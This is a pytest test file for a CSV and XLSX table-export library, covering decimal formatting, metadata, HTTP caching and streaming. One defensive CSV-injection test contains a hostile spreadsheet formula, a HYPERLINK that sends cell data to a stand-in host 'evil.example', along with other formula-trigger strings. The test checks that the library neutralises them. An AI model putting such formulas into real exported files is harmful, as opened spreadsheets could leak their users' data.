"""Tables as CSV and XLSX (planeco_shared.tabular): exact decimals, units in headers, metadata, and the
`?format=` representation over HTTP (attachment, weak ETag per format, 304 without building the file)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from collections.abc import AsyncIterator
from decimal import Decimal
from pathlib import Path

import httpx
import pytest
from fastapi import APIRouter, FastAPI
from openpyxl import load_workbook
from pydantic import BaseModel

from planeco_shared import tabular
from planeco_shared.app_factory import create_service_app
from planeco_shared.caching import public_cache
from planeco_shared.identity import PUBLIC, AnyCaller, Authenticated
from planeco_shared.settings import ServiceSettings
from planeco_shared.tabular import (
    Column,
    DecimalMark,
    Kind,
    Metadata,
    Table,
    add_export_route,
    ascii_filename,
    excel_decimal,
    number_format,
    to_csv,
    to_xlsx,
)
from planeco_shared.testing import (
    TEST_SECRET,
    asgi_client,
    demo_runtime,
    identity_headers,
    read_csv_export,
    read_xlsx_export,
)

GENERATED = dt.datetime(2026, 3, 1, 12, 30, tzinfo=dt.UTC)
METADATA = Metadata(
    title="Démo",
    source="Une source; avec point-virgule",
    version="2024-07-24",
    licence="Licence Ouverte 2.0",
    generated_at=GENERATED,
    extra=[("region", "24 Centre-Val de Loire")],
    notes=["first note", "second\nnote on two lines"],
)
COLUMNS = [
    Column("code", description="INSEE code"),
    Column("label"),
    Column("objective", "ktCO2e", Kind.decimal, "ktCO2e avoided"),
    Column("physical", "unit: see column unit", Kind.decimal),
    Column("count", kind=Kind.integer),
]
ROWS = [
    ["01", "Ain", Decimal("966.140800"), Decimal("459.68505216"), 3],
    ["2A", '=HYPERLINK("x")', Decimal("-0.5"), None, 0],
    ["200000172", 'a;b "quoted"\nsecond line', Decimal("1E+3"), Decimal("0.000001"), None],
    ["45", "-10 %", Decimal("-0.00"), Decimal("12345678.1234567"), -2],
]
TABLE = Table(METADATA, COLUMNS, ROWS)


def test_headers_carry_the_units() -> None:
    assert [c.header for c in COLUMNS] == [
        "code",
        "label",
        "objective [ktCO2e]",
        "physical [unit: see column unit]",
        "count",
    ]


def test_csv_is_utf8_with_bom_semicolons_and_exact_decimal_commas() -> None:
    content = to_csv(TABLE)
    assert content.startswith(b"\xef\xbb\xbf# format: CSV, UTF-8, separator ';', decimal comma;")
    text = content.decode("utf-8-sig")
    lines = text.split("\r\n")
    meta = [line for line in lines if line.startswith(("#", '"#'))]
    assert meta[0].endswith("the first 9 lines are metadata beginning with '#', line 10 is the header")
    assert meta[1:] == [
        "# title: Démo",
        '"# source: Une source; avec point-virgule"',  # one quoted field: the `;` splits nothing
        "# version: 2024-07-24",
        "# licence: Licence Ouverte 2.0",
        "# generated_at: 2026-03-01T12:30:00Z",
        "# region: 24 Centre-Val de Loire",
        "# note: first note",
        "# note: second note on two lines",
    ]
    assert lines[9] == "code;label;objective [ktCO2e];physical [unit: see column unit];count"
    # The csv module alone, after the metadata lines: exact strings, a formula neutralised, text quoted.
    rows = list(csv.reader(io.StringIO("\r\n".join(lines[10:]), newline=""), delimiter=";"))
    assert rows[:4] == [
        ["01", "Ain", "966,1408", "459,68505216", "3"],
        ["2A", '\'=HYPERLINK("x")', "-0,5", "", "0"],
        ["200000172", 'a;b "quoted"\nsecond line', "1000", "0,000001", ""],
        ["45", "'-10 %", "0", "12345678,1234567", "-2"],
    ]


def test_csv_with_a_decimal_point_reads_back_exactly() -> None:
    exported = read_csv_export(to_csv(TABLE, decimal_mark=DecimalMark.point))
    assert exported.metadata["source"] == ["Une source; avec point-virgule"]
    assert exported.metadata["note"] == ["first note", "second note on two lines"]
    assert [Decimal(r["objective"]) for r in exported.rows] == [
        Decimal("966.1408"),
        Decimal("-0.5"),
        Decimal(1000),
        Decimal(0),
    ]
    assert exported.rows[3]["physical"] == "12345678.1234567"  # 15 significant digits, every one kept
    assert exported.rows[1]["physical"] is None


def test_xlsx_has_typed_cells_a_frozen_bold_header_and_a_metadata_sheet() -> None:
    workbook = load_workbook(io.BytesIO(to_xlsx(TABLE)))
    data = workbook["data"]
    assert data.freeze_panes == "A2"
    assert data.auto_filter.ref == "A1:E5"
    assert all(cell.font.bold for cell in data[1])
    assert [cell.value for cell in data[1]] == [c.header for c in COLUMNS]
    code, _label, objective, physical, count = data[2]
    assert (code.value, code.data_type) == ("01", "s")  # a code stays text: 01 is not 1
    assert (objective.value, objective.number_format) == (966.1408, "#,##0.0000")
    assert (physical.value, physical.number_format) == (459.68505216, "#,##0.00000000")
    assert (count.value, count.number_format) == (3, "General")
    formula = data["B3"]
    assert (formula.value, formula.data_type) == ('=HYPERLINK("x")', "s")  # text, never a formula
    assert (data["C4"].value, data["C4"].number_format) == (1000, "#,##0")
    assert data["D5"].value == 12345678.1234567
    assert data["D3"].value is None
    assert 8 <= data.column_dimensions["B"].width <= 60
    metadata = read_xlsx_export(to_xlsx(TABLE)).metadata
    assert metadata["source"] == ["Une source; avec point-virgule"]
    assert metadata["version"] == ["2024-07-24"]
    assert metadata["generated_at"] == ["2026-03-01T12:30:00Z"]
    assert metadata["note"] == ["first note", "second\nnote on two lines"]
    described = {row[0].value: row[1].value for row in workbook["metadata"].iter_rows() if row[0].value}
    assert described["objective [ktCO2e]"] == "ktCO2e avoided"
    assert workbook.properties.title == "Démo"


def test_xlsx_rounds_beyond_15_significant_digits_and_says_so() -> None:
    value = Decimal("1052.339106264712")  # 16 significant digits
    assert excel_decimal(value) == (Decimal("1052.33910626471"), True)
    assert excel_decimal(Decimal("966.140800")) == (Decimal("966.1408"), False)
    assert excel_decimal(Decimal("-0.000")) == (Decimal(0), False)
    table = Table(METADATA, [Column("v", "ktCO2e", Kind.decimal)], [[value], [Decimal("1.5")]])
    exported = read_xlsx_export(to_xlsx(table))
    assert exported.rows[0]["v"] == 1052.33910626471
    assert exported.metadata["note"][-1].startswith("1 figure(s) have more than 15 significant digits")
    assert read_csv_export(to_csv(table)).rows[0]["v"] == "1052,339106264712"  # the CSV keeps them


def test_number_formats_show_the_stored_decimals() -> None:
    assert number_format(Decimal("229.69091366")) == "#,##0.00000000"
    assert number_format(Decimal("1E+3")) == "#,##0"
    assert number_format(Decimal("4.1960")) == "#,##0.000"


def test_tables_refuse_floats_and_ragged_rows() -> None:
    with pytest.raises(TypeError, match="float in a decimal column"):
        Table(METADATA, [Column("v", kind=Kind.decimal)], [[0.1]])  # type: ignore[list-item]
    with pytest.raises(TypeError, match="bool in a integer column"):
        Table(METADATA, [Column("n", kind=Kind.integer)], [[True]])
    with pytest.raises(ValueError, match="row 1 has 2 cells for 1 columns"):
        Table(METADATA, [Column("v")], [["a", "b"]])
    with pytest.raises(ValueError, match="no column named other"):
        Table.from_records(METADATA, [Column("v")], [{"v": "a", "other": "b"}])
    table = Table.from_records(METADATA, [Column("a"), Column("b")], [{"b": "x"}])
    assert table.rows == [[None, "x"]]


@pytest.mark.parametrize(
    ("stem", "expected"),
    [
        ("planeco-panorama-2024-07-24-region-24", "planeco-panorama-2024-07-24-region-24"),
        ("planeco-augm_vélotc Île/de\\France", "planeco-augm_velotc-Ile-de-France"),
        ('a"b;c\r\nd', "a-b-c-d"),
        ("«»", "export"),
    ],
)
def test_file_names_are_ascii_and_safe_in_a_header(stem: str, expected: str) -> None:
    assert ascii_filename(stem) == expected


# over HTTP

builds: list[str] = []
router = APIRouter(prefix="/tables")


def build_table() -> Table:
    builds.append("built")
    return TABLE


class Rows(BaseModel):
    rows: int


@router.get("/public", openapi_extra=PUBLIC, dependencies=[public_cache()])
async def public_table(_caller: AnyCaller) -> Rows:
    return Rows(rows=4)


add_export_route(
    router,
    "/public",
    public_table,
    name="export_public_table",
    summary="The table as a file",
    filename=lambda _view, _arguments: "démo table",
    table=lambda _view: build_table(),
    openapi_extra=PUBLIC,
    dependencies=[public_cache()],
)


@router.get("/filtered", openapi_extra=PUBLIC)
async def filtered_table(_caller: AnyCaller, region: str | None = None) -> Rows:
    return Rows(rows=4)


add_export_route(
    router,
    "/filtered",
    filtered_table,
    name="export_filtered_table",
    summary="The table of a région as a file",
    filename=lambda _view, _arguments: "filtered",
    table=lambda _view: build_table(),
    openapi_extra=PUBLIC,
)


@router.get("/private")
async def private_table(_caller: Authenticated) -> Rows:
    return Rows(rows=4)


add_export_route(
    router,
    "/private",
    private_table,
    name="export_private_table",
    summary="The private table as a file",
    filename=lambda _view, _arguments: "private",
    table=lambda _view: build_table(),
)


@pytest.fixture
def app(tmp_path: Path) -> FastAPI:
    settings = ServiceSettings(
        database_url=f"sqlite+aiosqlite:///{tmp_path}/demo.db", internal_secret=TEST_SECRET, log_json=False
    )
    return create_service_app(
        name="demo", title="demo", description="demo", settings=settings, routers=[router]
    )


@pytest.fixture
async def client(app: FastAPI) -> AsyncIterator[httpx.AsyncClient]:
    async with (
        demo_runtime(app, app.state.settings.database_url),
        asgi_client(app, **identity_headers("anonymous")) as client,
    ):
        yield client


async def test_files_are_attachments_with_their_own_weak_etag(client: httpx.AsyncClient) -> None:
    etags = {}
    for fmt, media_type in (
        ("csv", "text/csv; charset=utf-8; header=present"),
        ("xlsx", tabular.XLSX_MEDIA_TYPE),
    ):
        response = await client.get("/api/v1/tables/public/export", params={"format": fmt})
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == media_type
        assert response.headers["content-disposition"] == f'attachment; filename="demo-table.{fmt}"'
        assert response.headers["cache-control"] == "public, max-age=300, must-revalidate"
        etags[fmt] = response.headers["etag"]
        assert etags[fmt].startswith('W/"')  # rebuilt files differ by their generated_at
    point = await client.get("/api/v1/tables/public/export", params={"format": "csv", "decimal": "point"})
    etags["point"] = point.headers["etag"]
    json_view = await client.get("/api/v1/tables/public")
    assert json_view.json() == {"rows": 4}
    etags["json"] = json_view.headers["etag"]
    assert len(set(etags.values())) == 4
    exported = read_csv_export(
        (await client.get("/api/v1/tables/filtered/export?format=csv&region=24")).content
    )
    assert exported.metadata["json_view"] == ["/api/v1/tables/filtered?region=24"]


async def test_a_current_copy_gets_304_without_building_the_file(client: httpx.AsyncClient) -> None:
    for fmt in ("csv", "xlsx"):
        first = await client.get("/api/v1/tables/public/export", params={"format": fmt})
        builds.clear()
        again = await client.get(
            "/api/v1/tables/public/export",
            params={"format": fmt},
            headers={"if-none-match": first.headers["etag"]},
        )
        assert (again.status_code, again.content, builds) == (304, b"", [])
        assert again.headers["etag"] == first.headers["etag"]
        other = "xlsx" if fmt == "csv" else "csv"
        mismatched = await client.get(
            "/api/v1/tables/public/export",
            params={"format": other},
            headers={"if-none-match": first.headers["etag"]},
        )
        assert mismatched.status_code == 200


async def test_private_files_have_no_etag_and_bad_formats_are_problems(client: httpx.AsyncClient) -> None:
    private = await client.get(
        "/api/v1/tables/private/export", params={"format": "csv"}, headers=identity_headers("reader")
    )
    assert private.status_code == 200
    assert "etag" not in private.headers and "cache-control" not in private.headers
    for params in ({"format": "pdf"}, {"format": "csv", "decimal": "dot"}):
        refused = await client.get("/api/v1/tables/public/export", params=params)
        assert refused.status_code == 422
        assert refused.headers["content-type"] == "application/problem+json"
        assert refused.json()["code"] == "validation-error"


async def test_an_oversized_table_is_refused(
    client: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tabular, "MAX_CELLS", 10)
    refused = await client.get("/api/v1/tables/public/export", params={"format": "csv"})
    assert (refused.status_code, refused.json()["code"]) == (422, "export-too-large")


def test_the_contract_declares_the_export_as_files_and_the_read_as_json(app: FastAPI) -> None:
    paths = app.openapi()["paths"]
    export = paths["/api/v1/tables/public/export"]["get"]
    assert export["operationId"] == "exportPublicTable"
    assert set(export["responses"]["200"]["content"]) == {"text/csv", tabular.XLSX_MEDIA_TYPE}
    assert [p["name"] for p in export["parameters"]] == ["format", "decimal"]
    assert export["parameters"][0]["required"] is True
    read = paths["/api/v1/tables/public"]["get"]
    assert set(read["responses"]["200"]["content"]) == {"application/json"}
    assert "parameters" not in read


def test_no_metadata_value_or_cell_becomes_a_formula_or_splits_a_line() -> None:
    """CSV injection (OWASP): `;` in a metadata value does not start a new cell, and no cell, header or
    data, starts with a formula trigger; the XLSX keeps every such text a string, never a formula."""
    hostile = 'ok;=HYPERLINK("http://evil.example/?"&A1;"clic")'
    metadata = Metadata(
        title="=1+1",
        source=hostile,
        version="@SUM(1)",
        licence="+33;-1",
        generated_at=dt.datetime(2026, 3, 1, tzinfo=dt.UTC),
        extra=[("basis", "\t=cmd")],
        notes=["-2;@x"],
    )
    table = Table(metadata, [Column("=code"), Column("label")], [["-1", "@x"], ["\r=2", "ok"]])
    lines = to_csv(table).decode("utf-8-sig").split("\r\n")
    cells = [next(csv.reader([line], delimiter=";")) for line in lines if line]
    for line_cells in cells[1:8]:  # the metadata lines: one cell each, starting with "#"
        assert len(line_cells) == 1 and line_cells[0].startswith("#"), line_cells
    assert cells[2] == ['# source: ok;=HYPERLINK("http://evil.example/?"&A1;"clic")']
    for row in cells[8:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    assert cells[8:] == [["'=code", "label"], ["'-1", "'@x"], ["'\r=2", "ok"]]
    exported = read_csv_export(to_csv(table))
    assert exported.metadata["source"] == [hostile]
    assert exported.metadata["licence"] == ["+33;-1"]

    content = to_xlsx(table)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)  # no formula anywhere
    workbook = load_workbook(io.BytesIO(content))
    assert [c.data_type for c in workbook["data"][1]] == ["s", "s"]
    assert read_xlsx_export(content).metadata["source"] == [hostile]


async def _rows() -> AsyncIterator[list[tabular.Value]]:
    for row in ROWS * 700:  # more than one batch
        yield row


async def _collected(chunks: AsyncIterator[bytes]) -> tuple[bytes, int]:
    parts = [chunk async for chunk in chunks]
    return b"".join(parts), len(parts)


async def test_a_streamed_csv_is_the_same_file_in_chunks() -> None:
    whole = Table(METADATA, COLUMNS, ROWS * 700)
    for mark in DecimalMark:
        streamed, chunks = await _collected(tabular.stream_csv(METADATA, COLUMNS, _rows(), decimal_mark=mark))
        assert streamed == to_csv(whole, decimal_mark=mark) and chunks > 2


async def test_a_streamed_xlsx_has_the_typed_cells_and_the_metadata_sheet() -> None:
    content, _ = await _collected(tabular.stream_xlsx(METADATA, COLUMNS, _rows()))
    exported = read_xlsx_export(content)
    assert len(exported.rows) == len(ROWS) * 700
    first = exported.rows[0]
    assert first["code"] == "01" and first["objective"] == pytest.approx(966.1408) and first["count"] == 3
    assert exported.rows[1]["label"] == '=HYPERLINK("x")'  # text, not a formula
    assert exported.metadata["title"] == ["Démo"] and exported.metadata["region"] == [
        "24 Centre-Val de Loire"
    ]
    workbook = load_workbook(io.BytesIO(content))
    assert workbook["data"]["C2"].number_format == "#,##0.0000"
    assert workbook["data"].freeze_panes == "A2"


async def test_a_streamed_row_of_the_wrong_shape_is_refused() -> None:
    async def floats() -> AsyncIterator[list[tabular.Value]]:
        yield ["01", "Ain", 1.5, None, 1]  # type: ignore[list-item]

    with pytest.raises(TypeError):
        await _collected(tabular.stream_csv(METADATA, COLUMNS, floats()))
